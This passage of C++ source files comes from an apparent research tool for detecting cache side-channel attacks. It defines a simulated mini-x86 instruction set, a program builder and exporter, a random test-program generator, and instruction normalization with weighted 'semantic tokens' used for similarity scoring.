  constexpr std::array<std::string_view, kNumRegs> names = {
      "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "rbp", "rsp",
      "r8",  "r9",  "r10", "r11", "r12", "r13", "r14", "r15"};
  return names[static_cast<std::size_t>(r)];
}

/// Parses a register name ("rax", "r15"); nullopt if unknown.
inline std::optional<Reg> parse_reg(std::string_view s) {
  for (std::size_t i = 0; i < kNumRegs; ++i) {
    if (reg_name(static_cast<Reg>(i)) == s) return static_cast<Reg>(i);
  }
  return std::nullopt;
}

}  // namespace scag::isa
