// Random well-formed program generation, for property-based/differential
// testing: every generated program terminates (loops are counted, calls
// are to leaf subroutines only), so it can be executed and compared
// before/after transformations such as mutation.
#pragma once

#include "isa/program.h"
#include "support/rng.h"

namespace scag::isa {

struct RandomProgramOptions {
  /// Top-level statements to generate.
  std::uint32_t statements = 30;
  /// Maximum loop nesting depth (loop counters come from a fixed pool).
  std::uint32_t max_loop_depth = 2;
  /// Maximum iterations per generated loop.
  std::uint32_t max_loop_iters = 12;
  /// Number of leaf subroutines callable from the main body.
  std::uint32_t subroutines = 2;
  /// Base of the data sandbox the program reads/writes.
  std::uint64_t data_base = 0xD000'0000;
  /// Words in the sandbox.
  std::uint32_t data_words = 256;
};

/// Generates a random terminating program. Deterministic in `rng`.
Program random_program(Rng& rng, const RandomProgramOptions& options = {});

}  // namespace scag::isa
