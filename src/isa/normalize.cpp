#include "isa/normalize.h"

namespace scag::isa {
namespace {

const char* operand_token(const Operand& o) {
  switch (o.kind) {
    case Operand::Kind::kNone: return nullptr;
    case Operand::Kind::kReg: return "reg";
    case Operand::Kind::kImm: return "imm";
    case Operand::Kind::kMem: return "mem";
  }
  return nullptr;
}

}  // namespace

std::string normalize(const Instruction& insn) {
  std::string s(opcode_name(insn.op));
  if (is_control_flow(insn.op)) {
    // Branch targets are addresses; rule (2) maps them to "mem" except for
    // ret which has no operand.
    if (insn.op != Opcode::kRet) s += " mem";
    return s;
  }
  if (const char* d = operand_token(insn.dst)) {
    s += " ";
    s += d;
    if (const char* t = operand_token(insn.src)) {
      s += ", ";
      s += t;
    }
  }
  return s;
}

std::vector<std::string> normalize(const std::vector<Instruction>& seq) {
  std::vector<std::string> out;
  out.reserve(seq.size());
  for (const auto& insn : seq) out.push_back(normalize(insn));
  return out;
}

std::vector<std::string> semantic_tokens(const std::vector<Instruction>& seq) {
  std::vector<std::string> out;
  for (const Instruction& insn : seq) {
    switch (insn.op) {
      case Opcode::kClflush: out.emplace_back("flush"); continue;
      case Opcode::kRdtscp: out.emplace_back("time"); continue;
      case Opcode::kMfence:
      case Opcode::kLfence: out.emplace_back("fence"); continue;
      case Opcode::kCall: out.emplace_back("call"); continue;
      case Opcode::kRet: out.emplace_back("ret"); continue;
      case Opcode::kJmp: out.emplace_back("jmp"); continue;
      case Opcode::kPrefetch: out.emplace_back("load"); continue;
      default: break;
    }
    if (is_cond_branch(insn.op)) {
      out.emplace_back("br");
      continue;
    }
    const bool r = reads_memory(insn);
    const bool w = writes_memory(insn);
    if (r && w) out.emplace_back("rmw");
    else if (r) out.emplace_back("load");
    else if (w) out.emplace_back("store");
    // Pure register/immediate arithmetic: no token.
  }
  return out;
}

double semantic_token_weight(const std::string& token) {
  if (token == "flush" || token == "time") return 1.0;
  if (token == "load" || token == "store" || token == "rmw") return 0.6;
  if (token == "fence" || token == "call" || token == "ret") return 0.4;
  return 0.3;  // br, jmp — also the floor semantic_min_token_weight reports
}

double semantic_min_token_weight() { return 0.3; }

SemanticClass semantic_token_class(const std::string& token) {
  if (token == "load" || token == "store" || token == "rmw")
    return SemanticClass::kMemory;
  if (token == "br" || token == "jmp" || token == "call" || token == "ret")
    return SemanticClass::kControlFlow;
  return SemanticClass::kOther;
}

double semantic_subst_cost(const std::string& a, const std::string& b) {
  if (a == b) return 0.0;
  const SemanticClass ca = semantic_token_class(a);
  const SemanticClass cb = semantic_token_class(b);
  if (ca == SemanticClass::kMemory && cb == SemanticClass::kMemory) return 0.2;
  if (ca == SemanticClass::kControlFlow && cb == SemanticClass::kControlFlow)
    return 0.15;
  return (semantic_token_weight(a) + semantic_token_weight(b)) / 2.0;
}

}  // namespace scag::isa
