#include "isa/instruction.h"

#include "support/strings.h"

namespace scag::isa {

std::string to_string(const Operand& o) {
  switch (o.kind) {
    case Operand::Kind::kNone:
      return "";
    case Operand::Kind::kReg:
      return std::string(reg_name(o.reg));
    case Operand::Kind::kImm:
      return std::to_string(o.imm);
    case Operand::Kind::kMem: {
      std::string s = "[";
      bool any = false;
      if (o.mem.base != MemRef::kNoReg) {
        s += reg_name(static_cast<Reg>(o.mem.base));
        any = true;
      }
      if (o.mem.index != MemRef::kNoReg) {
        if (any) s += "+";
        s += reg_name(static_cast<Reg>(o.mem.index));
        if (o.mem.scale != 1) s += "*" + std::to_string(o.mem.scale);
        any = true;
      }
      if (o.mem.disp != 0 || !any) {
        if (any && o.mem.disp >= 0) s += "+";
        s += std::to_string(o.mem.disp);
      }
      s += "]";
      return s;
    }
  }
  return "<bad-operand>";
}

std::string to_string(const Instruction& insn) {
  std::string s(opcode_name(insn.op));
  if (is_control_flow(insn.op) && insn.op != Opcode::kRet) {
    // Print resolved targets as hex addresses.
    return s + " " + strfmt("0x%llx",
                            static_cast<unsigned long long>(insn.target));
  }
  if (!insn.dst.is_none()) {
    s += " " + to_string(insn.dst);
    if (!insn.src.is_none()) s += ", " + to_string(insn.src);
  }
  return s;
}

bool reads_memory(const Instruction& insn) {
  switch (insn.op) {
    case Opcode::kLea:
    case Opcode::kClflush:
    case Opcode::kNop:
      return false;
    case Opcode::kPop:
    case Opcode::kRet:
    case Opcode::kPrefetch:
      return true;
    case Opcode::kMov:
      return insn.src.is_mem();
    default:
      // ALU/compare ops read a memory source operand; a memory destination
      // of a read-modify-write op is also read.
      if (insn.src.is_mem()) return true;
      if (insn.dst.is_mem() && insn.op != Opcode::kMov) return true;
      return false;
  }
}

bool writes_memory(const Instruction& insn) {
  switch (insn.op) {
    case Opcode::kPush:
    case Opcode::kCall:
      return true;
    case Opcode::kLea:
    case Opcode::kClflush:
    case Opcode::kCmp:
    case Opcode::kTest:
    case Opcode::kPrefetch:
      return false;
    default:
      return writes_dst(insn.op) && insn.dst.is_mem();
  }
}

bool accesses_cache(const Instruction& insn) {
  return reads_memory(insn) || writes_memory(insn) ||
         insn.op == Opcode::kClflush || insn.op == Opcode::kPrefetch;
}

}  // namespace scag::isa
