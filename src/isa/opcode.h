// Opcodes of the mini-x86 ISA.
//
// The set covers what real CSCA PoCs use: data movement, ALU ops, compares,
// conditional/unconditional control flow, cache maintenance (clflush),
// fences, and timestamp reads (rdtscp). This is the vocabulary both the
// attack/benign program generators and the interpreter agree on.
#pragma once

#include <cstdint>
#include <optional>
#include <string_view>

namespace scag::isa {

enum class Opcode : std::uint8_t {
  // Data movement.
  kMov,      // mov dst, src
  kLea,      // lea dst, mem  (address computation, no memory access)
  kPush,     // push src
  kPop,      // pop dst
  // ALU.
  kAdd, kSub, kImul, kXor, kAnd, kOr, kShl, kShr,
  kInc, kDec, kNeg, kNot,
  // Compare / test (set flags only).
  kCmp, kTest,
  // Control flow.
  kJmp,
  kJe, kJne, kJl, kJle, kJg, kJge,   // signed conditions
  kJb, kJbe, kJa, kJae,              // unsigned conditions
  kCall, kRet,
  // Cache & timing.
  kClflush,  // clflush mem : evict the line from the whole hierarchy
  kMfence, kLfence,  // serialize (lfence also closes speculation windows)
  kRdtscp,   // rdtscp dst : read the cycle counter
  kPrefetch, // prefetch mem : load into cache without architectural effect
  // Misc.
  kNop,
  kHlt,      // stop execution
  kCount,
};

constexpr std::string_view opcode_name(Opcode op);

/// Parses a mnemonic ("mov", "jne"); nullopt if unknown.
std::optional<Opcode> parse_opcode(std::string_view mnemonic);

/// True for any control-transfer instruction (jumps, call, ret).
constexpr bool is_control_flow(Opcode op) {
  return op >= Opcode::kJmp && op <= Opcode::kRet;
}

/// True for conditional jumps only.
constexpr bool is_cond_branch(Opcode op) {
  return op >= Opcode::kJe && op <= Opcode::kJae;
}

/// True for instructions that terminate a basic block.
constexpr bool ends_basic_block(Opcode op) {
  return is_control_flow(op) || op == Opcode::kHlt;
}

/// True if the opcode writes its destination register operand.
constexpr bool writes_dst(Opcode op);

constexpr std::string_view opcode_name(Opcode op) {
  switch (op) {
    case Opcode::kMov: return "mov";
    case Opcode::kLea: return "lea";
    case Opcode::kPush: return "push";
    case Opcode::kPop: return "pop";
    case Opcode::kAdd: return "add";
    case Opcode::kSub: return "sub";
    case Opcode::kImul: return "imul";
    case Opcode::kXor: return "xor";
    case Opcode::kAnd: return "and";
    case Opcode::kOr: return "or";
    case Opcode::kShl: return "shl";
    case Opcode::kShr: return "shr";
    case Opcode::kInc: return "inc";
    case Opcode::kDec: return "dec";
    case Opcode::kNeg: return "neg";
    case Opcode::kNot: return "not";
    case Opcode::kCmp: return "cmp";
    case Opcode::kTest: return "test";
    case Opcode::kJmp: return "jmp";
    case Opcode::kJe: return "je";
    case Opcode::kJne: return "jne";
    case Opcode::kJl: return "jl";
    case Opcode::kJle: return "jle";
    case Opcode::kJg: return "jg";
    case Opcode::kJge: return "jge";
    case Opcode::kJb: return "jb";
    case Opcode::kJbe: return "jbe";
    case Opcode::kJa: return "ja";
    case Opcode::kJae: return "jae";
    case Opcode::kCall: return "call";
    case Opcode::kRet: return "ret";
    case Opcode::kClflush: return "clflush";
    case Opcode::kMfence: return "mfence";
    case Opcode::kLfence: return "lfence";
    case Opcode::kRdtscp: return "rdtscp";
    case Opcode::kPrefetch: return "prefetch";
    case Opcode::kNop: return "nop";
    case Opcode::kHlt: return "hlt";
    case Opcode::kCount: break;
  }
  return "<bad-opcode>";
}

constexpr bool writes_dst(Opcode op) {
  switch (op) {
    case Opcode::kMov:
    case Opcode::kLea:
    case Opcode::kPop:
    case Opcode::kAdd:
    case Opcode::kSub:
    case Opcode::kImul:
    case Opcode::kXor:
    case Opcode::kAnd:
    case Opcode::kOr:
    case Opcode::kShl:
    case Opcode::kShr:
    case Opcode::kInc:
    case Opcode::kDec:
    case Opcode::kNeg:
    case Opcode::kNot:
    case Opcode::kRdtscp:
      return true;
    default:
      return false;
  }
}

}  // namespace scag::isa
