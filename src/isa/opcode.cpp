#include "isa/opcode.h"

namespace scag::isa {

std::optional<Opcode> parse_opcode(std::string_view mnemonic) {
  for (std::uint8_t i = 0; i < static_cast<std::uint8_t>(Opcode::kCount);
       ++i) {
    const auto op = static_cast<Opcode>(i);
    if (opcode_name(op) == mnemonic) return op;
  }
  return std::nullopt;
}

}  // namespace scag::isa
