// Operand and Instruction: the unit everything downstream consumes.
#pragma once

#include <cstdint>
#include <string>

#include "isa/opcode.h"
#include "isa/reg.h"

namespace scag::isa {

/// A memory operand: effective address = base + index*scale + disp.
/// base/index may be absent (kNoReg).
struct MemRef {
  static constexpr int kNoReg = -1;

  int base = kNoReg;    // Reg as int, or kNoReg
  int index = kNoReg;   // Reg as int, or kNoReg
  std::uint8_t scale = 1;  // 1, 2, 4, or 8
  std::int64_t disp = 0;

  bool operator==(const MemRef&) const = default;
};

/// Tagged-union operand. A plain struct with a kind tag is simpler and
/// faster here than std::variant and keeps Instruction trivially copyable.
struct Operand {
  enum class Kind : std::uint8_t { kNone, kReg, kImm, kMem };

  Kind kind = Kind::kNone;
  Reg reg = Reg::RAX;     // valid when kind == kReg
  std::int64_t imm = 0;   // valid when kind == kImm
  MemRef mem;             // valid when kind == kMem

  static Operand none() { return {}; }
  static Operand of_reg(Reg r) {
    Operand o;
    o.kind = Kind::kReg;
    o.reg = r;
    return o;
  }
  static Operand of_imm(std::int64_t v) {
    Operand o;
    o.kind = Kind::kImm;
    o.imm = v;
    return o;
  }
  static Operand of_mem(MemRef m) {
    Operand o;
    o.kind = Kind::kMem;
    o.mem = m;
    return o;
  }

  bool is_none() const { return kind == Kind::kNone; }
  bool is_reg() const { return kind == Kind::kReg; }
  bool is_imm() const { return kind == Kind::kImm; }
  bool is_mem() const { return kind == Kind::kMem; }

  bool operator==(const Operand&) const = default;
};

/// One instruction. `address` is assigned when the instruction is placed
/// into a Program (each instruction occupies kInstrSize bytes).
struct Instruction {
  Opcode op = Opcode::kNop;
  Operand dst;  // first operand (destination for writing ops)
  Operand src;  // second operand
  std::uint64_t address = 0;

  /// For control-flow instructions: the resolved absolute target address.
  /// Unused (0) for fall-through-only instructions and kRet.
  std::uint64_t target = 0;

  bool operator==(const Instruction&) const = default;
};

/// Byte footprint of every instruction in the mini-ISA (fixed width).
inline constexpr std::uint64_t kInstrSize = 4;

/// Pretty-prints an operand in AT&T-free Intel-ish syntax,
/// e.g. "rax", "42", "[rbx+rcx*8+16]".
std::string to_string(const Operand& o);

/// Pretty-prints a full instruction, e.g. "mov rax, [rbx+8]".
std::string to_string(const Instruction& insn);

/// True if the instruction loads from memory (architecturally).
bool reads_memory(const Instruction& insn);

/// True if the instruction stores to memory (architecturally).
bool writes_memory(const Instruction& insn);

/// True if the instruction touches the cache hierarchy at all
/// (loads, stores, clflush, prefetch). lea does NOT access memory.
bool accesses_cache(const Instruction& insn);

}  // namespace scag::isa
