#include "isa/export.h"

#include <map>
#include <set>

#include "support/strings.h"

namespace scag::isa {

std::string export_assembly(const Program& program,
                            const ExportOptions& options) {
  program.validate();

  // Collect every address that needs a label: branch targets and the entry.
  // Keep user-provided label names where they exist.
  std::map<std::uint64_t, std::string> label_at;
  for (const auto& [name, addr] : program.labels()) label_at[addr] = name;
  auto ensure_label = [&label_at](std::uint64_t addr) {
    auto it = label_at.find(addr);
    if (it == label_at.end())
      it = label_at.emplace(addr, strfmt("L_%llx",
                                         static_cast<unsigned long long>(addr)))
               .first;
    return it->second;
  };
  ensure_label(program.entry());
  for (const auto& insn : program.instructions()) {
    if (is_control_flow(insn.op) && insn.op != Opcode::kRet)
      ensure_label(insn.target);
  }

  std::string out;
  out += "; exported from program '" + program.name() + "'\n";
  if (options.include_data) {
    for (const auto& [addr, value] : program.initial_data()) {
      out += strfmt(".word 0x%llx 0x%llx\n",
                    static_cast<unsigned long long>(addr),
                    static_cast<unsigned long long>(value));
    }
  }
  out += ".entry " + label_at.at(program.entry()) + "\n";

  for (const auto& insn : program.instructions()) {
    auto lbl = label_at.find(insn.address);
    if (lbl != label_at.end()) out += lbl->second + ":\n";

    std::string line = "  ";
    if (is_control_flow(insn.op) && insn.op != Opcode::kRet) {
      line += std::string(opcode_name(insn.op)) + " " +
              label_at.at(insn.target);
    } else {
      line += to_string(insn);
    }
    if (options.address_comments)
      line += strfmt("   ; 0x%llx",
                     static_cast<unsigned long long>(insn.address));
    if (options.relevance_comments &&
        program.relevant_marks().count(insn.address))
      line += "   ; attack-relevant";
    out += line + "\n";
  }
  return out;
}

}  // namespace scag::isa
