// Program: the "binary" of the mini-x86 world.
//
// A Program is a flat instruction stream at fixed addresses plus an initial
// data image and (optionally) ground-truth attack-relevance annotations that
// the evaluation uses as the paper's "manually identified attack-relevant
// BBs" (Table IV).
#pragma once

#include <cstdint>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "isa/instruction.h"

namespace scag::isa {

/// Default code base address (mirrors a typical ELF text segment).
inline constexpr std::uint64_t kDefaultCodeBase = 0x400000;

class Program {
 public:
  Program() = default;
  explicit Program(std::string name, std::uint64_t code_base = kDefaultCodeBase)
      : name_(std::move(name)), code_base_(code_base) {}

  const std::string& name() const { return name_; }
  void set_name(std::string n) { name_ = std::move(n); }

  std::uint64_t code_base() const { return code_base_; }
  std::uint64_t entry() const { return entry_; }
  void set_entry(std::uint64_t e) { entry_ = e; }

  /// Appends an instruction; its address is assigned automatically.
  /// Returns the assigned address.
  std::uint64_t append(Instruction insn);

  std::size_t size() const { return code_.size(); }
  bool empty() const { return code_.empty(); }

  const Instruction& at(std::size_t idx) const { return code_.at(idx); }
  Instruction& at(std::size_t idx) { return code_.at(idx); }
  const std::vector<Instruction>& instructions() const { return code_; }

  /// Address of instruction idx.
  std::uint64_t address_of(std::size_t idx) const {
    return code_base_ + idx * kInstrSize;
  }

  /// Index of the instruction at `addr`, or npos if out of range/misaligned.
  static constexpr std::size_t npos = static_cast<std::size_t>(-1);
  std::size_t index_of(std::uint64_t addr) const;

  /// True if `addr` is a valid instruction address of this program.
  bool contains(std::uint64_t addr) const { return index_of(addr) != npos; }

  /// Initial data image: 64-bit words at absolute addresses. The interpreter
  /// seeds its memory from this map; unlisted addresses read as zero.
  std::map<std::uint64_t, std::uint64_t>& initial_data() { return data_; }
  const std::map<std::uint64_t, std::uint64_t>& initial_data() const {
    return data_;
  }

  /// Labels (from the builder/assembler) for diagnostics.
  std::map<std::string, std::uint64_t>& labels() { return labels_; }
  const std::map<std::string, std::uint64_t>& labels() const {
    return labels_;
  }
  /// Address of a label; throws std::out_of_range if missing.
  std::uint64_t label(const std::string& name) const {
    return labels_.at(name);
  }

  /// Ground-truth: addresses of instructions belonging to the attack logic
  /// (flush/evict/prime, reload/probe, timing). Empty for benign programs.
  std::set<std::uint64_t>& relevant_marks() { return relevant_; }
  const std::set<std::uint64_t>& relevant_marks() const { return relevant_; }

  /// Validates internal consistency (branch targets inside the program,
  /// operands sensible). Throws std::runtime_error on the first violation.
  void validate() const;

  /// Disassembles the whole program as text (one instruction per line).
  std::string disassemble() const;

 private:
  std::string name_;
  std::uint64_t code_base_ = kDefaultCodeBase;
  std::uint64_t entry_ = kDefaultCodeBase;
  std::vector<Instruction> code_;
  std::map<std::uint64_t, std::uint64_t> data_;
  std::map<std::string, std::uint64_t> labels_;
  std::set<std::uint64_t> relevant_;
};

}  // namespace scag::isa
