// Instruction normalization (paper Section III-B1).
//
// To compare instruction sequences across compilers/variants, SCAGuard
// erases the concrete choices a compiler (or a mutation) makes:
//   (1) immediate data        -> "imm"
//   (2) accessed memory addrs -> "mem"
//   (3) registers             -> "reg"
// e.g.  mov -0x18(rbp), rax   becomes   "mov mem, reg".
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "isa/instruction.h"

namespace scag::isa {

/// Normalizes a single instruction into its canonical token string.
std::string normalize(const Instruction& insn);

/// Normalizes a sequence; the result is the alphabet the Levenshtein
/// distance of Section III-B1 operates on.
std::vector<std::string> normalize(const std::vector<Instruction>& seq);

/// Coarser, cache-semantics-focused alphabet used by the calibrated
/// distance mode (see core::DistanceConfig): each instruction maps to one
/// of {flush, time, fence, load, store, rmw, br, call, ret, jmp} or to
/// nothing (pure register arithmetic carries no cache semantics). Tiny
/// mini-ISA basic blocks make the full-token Levenshtein over-sensitive to
/// coding style; this alphabet keeps exactly the tokens a cache attack is
/// made of.
std::vector<std::string> semantic_tokens(const std::vector<Instruction>& seq);

/// Edit weight of a semantic token (flush/time are the strongest attack
/// markers, plain control flow the weakest).
double semantic_token_weight(const std::string& token);

/// Coarse class of a semantic token. The substitution-cost rule only needs
/// this class plus the token weights, which is what lets the compiled
/// kernel (core/compiled.h) replace per-cell string comparisons with
/// interned per-id attributes without changing a single bit of the result.
enum class SemanticClass : std::uint8_t { kMemory, kControlFlow, kOther };
SemanticClass semantic_token_class(const std::string& token);

/// Substitution cost between two semantic tokens (0 if equal; reduced for
/// related pairs such as load/store/rmw). Fully determined by token
/// equality, semantic_token_class, and semantic_token_weight.
double semantic_subst_cost(const std::string& a, const std::string& b);

/// The smallest value semantic_token_weight can return. Every insert or
/// delete in the weighted edit distance costs at least this much, which is
/// what makes token-count gaps a sound DTW lower-bound ingredient
/// (core::cst_bbs_distance_lower_bound).
double semantic_min_token_weight();

}  // namespace scag::isa
