#include "isa/program.h"

#include <stdexcept>

#include "support/strings.h"

namespace scag::isa {

std::uint64_t Program::append(Instruction insn) {
  const std::uint64_t addr = address_of(code_.size());
  insn.address = addr;
  code_.push_back(insn);
  return addr;
}

std::size_t Program::index_of(std::uint64_t addr) const {
  if (addr < code_base_) return npos;
  const std::uint64_t off = addr - code_base_;
  if (off % kInstrSize != 0) return npos;
  const std::uint64_t idx = off / kInstrSize;
  if (idx >= code_.size()) return npos;
  return static_cast<std::size_t>(idx);
}

void Program::validate() const {
  if (code_.empty()) throw std::runtime_error("Program::validate: empty program");
  if (!contains(entry_))
    throw std::runtime_error("Program::validate: entry not in code range");
  for (std::size_t i = 0; i < code_.size(); ++i) {
    const Instruction& insn = code_[i];
    if (insn.address != address_of(i))
      throw std::runtime_error(
          strfmt("Program::validate: bad address at index %zu", i));
    if (is_control_flow(insn.op) && insn.op != Opcode::kRet) {
      if (!contains(insn.target))
        throw std::runtime_error(strfmt(
            "Program::validate: %s at 0x%llx targets 0x%llx outside program",
            std::string(opcode_name(insn.op)).c_str(),
            static_cast<unsigned long long>(insn.address),
            static_cast<unsigned long long>(insn.target)));
    }
    if (insn.op == Opcode::kClflush || insn.op == Opcode::kPrefetch) {
      if (!insn.dst.is_mem())
        throw std::runtime_error(
            "Program::validate: clflush/prefetch needs a memory operand");
    }
    if (insn.dst.is_mem() && insn.src.is_mem())
      throw std::runtime_error(
          "Program::validate: mem-to-mem operands are not encodable");
  }
}

std::string Program::disassemble() const {
  std::string out;
  // Reverse label map for annotation.
  std::map<std::uint64_t, std::string> by_addr;
  for (const auto& [name, addr] : labels_) by_addr[addr] = name;
  for (const auto& insn : code_) {
    auto it = by_addr.find(insn.address);
    if (it != by_addr.end()) out += it->second + ":\n";
    out += strfmt("  0x%06llx:  %s\n",
                  static_cast<unsigned long long>(insn.address),
                  to_string(insn).c_str());
  }
  return out;
}

}  // namespace scag::isa
