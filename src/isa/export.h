// Program -> assembly text exporter. Unlike Program::disassemble (which is
// for humans and prints branch targets as hex addresses), this emits text
// in the assembler's own dialect — labels for every branch target, .entry,
// and .word directives — so the output re-assembles into an equivalent
// Program. Round-trip: assemble(export_assembly(p)) has identical
// instructions, entry point, and data image (addresses included).
#pragma once

#include <string>

#include "isa/program.h"

namespace scag::isa {

struct ExportOptions {
  /// Emit the initial data image as .word directives.
  bool include_data = true;
  /// Annotate each instruction with its original address as a comment.
  bool address_comments = false;
  /// Mark ground-truth attack-relevant instructions with a comment.
  bool relevance_comments = false;
};

/// Renders a Program as re-assemblable text.
std::string export_assembly(const Program& program,
                            const ExportOptions& options = {});

}  // namespace scag::isa
