// Text assembler: parses a small Intel-syntax assembly dialect into a
// Program. Used by tests, the examples, and anywhere a program is easier to
// express as text than through the builder API.
//
// Dialect, one statement per line:
//   ; comment                          # comment
//   label:
//   mov rax, [rbx+rcx*8+16]
//   add [rax], 5
//   clflush [rdi]
//   rdtscp r8
//   jne label
//   .entry label            ; optional entry directive
//   .word 0x10000 42        ; initial data word at address
#pragma once

#include <stdexcept>
#include <string>
#include <string_view>

#include "isa/program.h"

namespace scag::isa {

/// Parse error with 1-based line number context.
class AsmError : public std::runtime_error {
 public:
  AsmError(std::size_t line, const std::string& message)
      : std::runtime_error("line " + std::to_string(line) + ": " + message),
        line_(line) {}
  std::size_t line() const { return line_; }

 private:
  std::size_t line_;
};

/// Assembles source text into a Program. Throws AsmError on syntax errors.
Program assemble(std::string_view source, std::string program_name = "asm",
                 std::uint64_t code_base = kDefaultCodeBase);

}  // namespace scag::isa
