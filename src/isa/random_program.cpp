#include "isa/random_program.h"

#include "isa/builder.h"

namespace scag::isa {

namespace {

/// Data registers the generator computes with. RSP is reserved for the
/// stack; RCX/R13/R14 are reserved as loop counters (one per nesting
/// level) so loops always terminate.
constexpr Reg kDataRegs[] = {Reg::RAX, Reg::RBX, Reg::RDX, Reg::RSI,
                             Reg::RDI, Reg::RBP, Reg::R8,  Reg::R9,
                             Reg::R10, Reg::R11, Reg::R12, Reg::R15};
constexpr Reg kLoopRegs[] = {Reg::RCX, Reg::R13, Reg::R14};

class Generator {
 public:
  Generator(Rng& rng, const RandomProgramOptions& options)
      : rng_(rng), options_(options), b_("fuzz") {}

  Program generate() {
    // Sandbox contents.
    Rng data_rng = rng_.split();
    for (std::uint32_t i = 0; i < options_.data_words; ++i)
      b_.data_word(options_.data_base + i * 8, data_rng.next());

    b_.entry("main");
    // Leaf subroutines first (so main can call them by label).
    for (std::uint32_t s = 0; s < options_.subroutines; ++s) {
      b_.label("sub" + std::to_string(s));
      const std::uint32_t len = 1 + static_cast<std::uint32_t>(rng_.below(5));
      for (std::uint32_t i = 0; i < len; ++i) emit_simple();
      b_.ret();
    }

    b_.label("main");
    for (std::uint32_t i = 0; i < options_.statements; ++i) emit_statement(0);
    // Make the outcome observable: dump the data registers.
    for (std::size_t i = 0; i < std::size(kDataRegs); ++i)
      b_.mov(mem_abs(static_cast<std::int64_t>(out_base() + i * 8)),
             reg(kDataRegs[i]));
    b_.hlt();
    return b_.build();
  }

  std::uint64_t out_base() const {
    return options_.data_base + options_.data_words * 8 + 0x1000;
  }

 private:
  Reg data_reg() { return kDataRegs[rng_.below(std::size(kDataRegs))]; }

  Operand sandbox_mem() {
    // Mostly sandbox-absolute; sometimes register-indexed (masked index
    // keeps most accesses inside, but stray addresses are harmless in the
    // sparse memory model).
    const std::uint64_t slot = rng_.below(options_.data_words);
    if (rng_.chance(0.7)) {
      return mem_abs(
          static_cast<std::int64_t>(options_.data_base + slot * 8));
    }
    return mem_idx(Reg::R12, data_reg(), static_cast<std::uint8_t>(8),
                   static_cast<std::int64_t>(options_.data_base));
  }

  void emit_simple() {
    switch (rng_.below(10)) {
      case 0: b_.mov(reg(data_reg()), imm(static_cast<std::int64_t>(rng_.below(1 << 20)))); break;
      case 1: b_.mov(reg(data_reg()), reg(data_reg())); break;
      case 2: b_.add(reg(data_reg()), imm(static_cast<std::int64_t>(rng_.below(999)))); break;
      case 3: b_.sub(reg(data_reg()), reg(data_reg())); break;
      case 4: b_.imul(reg(data_reg()), imm(1 + static_cast<std::int64_t>(rng_.below(64)))); break;
      case 5: b_.xor_(reg(data_reg()), reg(data_reg())); break;
      case 6: b_.and_(reg(data_reg()), imm(static_cast<std::int64_t>(rng_.below(4096)))); break;
      case 7: b_.shr(reg(data_reg()), imm(static_cast<std::int64_t>(rng_.below(31)))); break;
      case 8: {
        // Bounded-index load: mask the index register first.
        const Reg idx = data_reg();
        b_.and_(reg(idx), imm(static_cast<std::int64_t>(options_.data_words - 1)));
        b_.mov(reg(data_reg()),
               mem_idx(Reg::R13, idx, 8,
                       static_cast<std::int64_t>(options_.data_base)));
        break;
      }
      default:
        b_.mov(sandbox_mem(), reg(data_reg()));
        break;
    }
  }

  void emit_if(std::uint32_t depth) {
    const std::string skip = fresh_label("skip");
    const std::string join = fresh_label("join");
    b_.cmp(reg(data_reg()), imm(static_cast<std::int64_t>(rng_.below(1000))));
    switch (rng_.below(4)) {
      case 0: b_.jl(skip); break;
      case 1: b_.jge(skip); break;
      case 2: b_.je(skip); break;
      default: b_.ja(skip); break;
    }
    const std::uint32_t then_len = 1 + static_cast<std::uint32_t>(rng_.below(4));
    for (std::uint32_t i = 0; i < then_len; ++i) emit_statement(depth + 1);
    b_.jmp(join);
    b_.label(skip);
    const std::uint32_t else_len = static_cast<std::uint32_t>(rng_.below(3));
    for (std::uint32_t i = 0; i < else_len; ++i) emit_statement(depth + 1);
    b_.label(join);
  }

  void emit_loop(std::uint32_t depth) {
    const Reg counter = kLoopRegs[loop_depth_];
    ++loop_depth_;
    const std::string head = fresh_label("loop");
    b_.mov(reg(counter),
           imm(1 + static_cast<std::int64_t>(rng_.below(options_.max_loop_iters))));
    b_.label(head);
    const std::uint32_t body = 1 + static_cast<std::uint32_t>(rng_.below(4));
    for (std::uint32_t i = 0; i < body; ++i) emit_statement(depth + 1);
    b_.dec(reg(counter));
    b_.jne(head);
    --loop_depth_;
  }

  void emit_statement(std::uint32_t depth) {
    const bool can_nest = depth < 3;
    const bool can_loop =
        can_nest && loop_depth_ < std::min<std::uint32_t>(
                        options_.max_loop_depth, std::size(kLoopRegs));
    const std::uint64_t roll = rng_.below(12);
    if (roll == 0 && can_loop) {
      emit_loop(depth);
    } else if (roll <= 2 && can_nest) {
      emit_if(depth);
    } else if (roll == 3 && options_.subroutines > 0) {
      b_.call("sub" + std::to_string(rng_.below(options_.subroutines)));
    } else {
      emit_simple();
    }
  }

  std::string fresh_label(const char* stem) {
    return std::string(stem) + "_" + std::to_string(label_seq_++);
  }

  Rng& rng_;
  RandomProgramOptions options_;
  ProgramBuilder b_;
  std::uint32_t loop_depth_ = 0;
  std::uint32_t label_seq_ = 0;
};

}  // namespace

Program random_program(Rng& rng, const RandomProgramOptions& options) {
  Generator gen(rng, options);
  return gen.generate();
}

}  // namespace scag::isa
