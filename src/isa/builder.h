// ProgramBuilder: a small assembler-like DSL for constructing Programs in
// C++. All PoC attack generators and benign workload generators use it.
//
//   ProgramBuilder b("flush_reload");
//   b.label("flush_loop");
//   b.mark_relevant(true);
//   b.clflush(mem(Reg::RBX));
//   b.mark_relevant(false);
//   ...
//   b.jne("flush_loop");
//   Program p = b.build();
//
// Forward references to labels are allowed; they are resolved in build().
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "isa/program.h"

namespace scag::isa {

/// Shorthand operand constructors (usable with `using namespace scag::isa`).
inline Operand reg(Reg r) { return Operand::of_reg(r); }
inline Operand imm(std::int64_t v) { return Operand::of_imm(v); }
inline Operand mem(Reg base, std::int64_t disp = 0) {
  MemRef m;
  m.base = static_cast<int>(base);
  m.disp = disp;
  return Operand::of_mem(m);
}
inline Operand mem_idx(Reg base, Reg index, std::uint8_t scale = 1,
                       std::int64_t disp = 0) {
  MemRef m;
  m.base = static_cast<int>(base);
  m.index = static_cast<int>(index);
  m.scale = scale;
  m.disp = disp;
  return Operand::of_mem(m);
}
inline Operand mem_abs(std::int64_t addr) {
  MemRef m;
  m.disp = addr;
  return Operand::of_mem(m);
}

class ProgramBuilder {
 public:
  explicit ProgramBuilder(std::string name,
                          std::uint64_t code_base = kDefaultCodeBase);
